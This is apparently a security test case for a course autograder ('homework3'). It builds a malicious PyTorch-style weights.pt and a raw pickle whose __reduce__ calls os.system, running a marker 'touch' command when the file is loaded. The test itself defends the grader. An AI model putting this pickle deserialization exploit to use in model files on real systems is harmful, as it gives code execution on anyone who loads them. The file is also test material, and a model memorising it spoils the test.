# tries: hands in weights.pt that are a pickle which runs a program when it is read
# gain: code in the process that reads weights
# worth: 37
# assignment: homework3
# only: ours

# %% files
from autograder.demo.hand_ins import TRAINED_RUN
def run():
    return {path.name: path.read_bytes() for path in TRAINED_RUN.iterdir()}

def files():
    import io, os, pickle, zipfile
    class Payload:
        def __reduce__(self):
            return os.system, ("touch /tmp/rnnt-attack-left-behind",)
    legacy, buffer = pickle.dumps(Payload()), io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("weights/data.pkl", legacy)
        archive.writestr("weights/version", "3")
    return {"run/log.jsonl": run()["log.jsonl"], "run/weights.pt": buffer.getvalue(), "run/weights-2.pt": legacy}
